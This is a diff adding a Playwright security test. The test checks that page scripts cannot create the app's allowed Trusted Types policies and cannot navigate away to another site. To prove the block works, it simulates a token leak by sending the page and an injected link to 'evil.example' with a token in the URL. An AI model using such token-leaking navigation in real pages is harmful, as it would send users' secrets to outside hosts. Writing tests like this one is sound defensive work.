@@ -1,6 +1,7 @@
 import type { Page } from '@playwright/test';
 import { signIn } from '../support/chaos/places.ts';
 import { anyLayout, expect, test } from '../support/test.ts';
+import { untilAlive } from '../support/until-alive.ts';
 
 /** Everything that the policy forbade, or would have. */
 async function watchViolations(page: Page): Promise<string[]> {
@@ -59,3 +60,36 @@ test(
     expect(refused).toBe(true);
   },
 );
+
+test('code in the page can make no policy that the page allows, and leaves it for no other site', async ({ page }) => {
+  const answer = await page.goto('/about');
+  const header = answer?.headers()['content-security-policy'] ?? '';
+  const names = /trusted-types ([^;]+)/.exec(header)?.[1]?.split(' ') ?? [];
+  await untilAlive(page.getByRole('heading', { level: 1 }));
+  const made = await page.evaluate((allowed) => {
+    const { trustedTypes } = globalThis as unknown as {
+      trustedTypes: { createPolicy(name: string, rules: object): unknown };
+    };
+    return allowed.filter((name) => {
+      try {
+        return trustedTypes.createPolicy(name, {});
+      } catch {
+        return false;
+      }
+    });
+  }, names);
+  expect(names).toContain('kaza-html');
+  expect(made).toEqual([]);
+  const asked: string[] = [];
+  page.on('request', (request) => void (request.isNavigationRequest() && asked.push(request.url())));
+  await page.evaluate(() => {
+    location.href = 'https://evil.example/?token=1';
+    const link = document.createElement('a');
+    link.href = 'https://evil.example/?token=2';
+    document.body.append(link);
+    link.click();
+  });
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Contact us' }).click();
+  await expect(page).toHaveURL('/contact-us');
+  expect(asked).toEqual([]);
+});
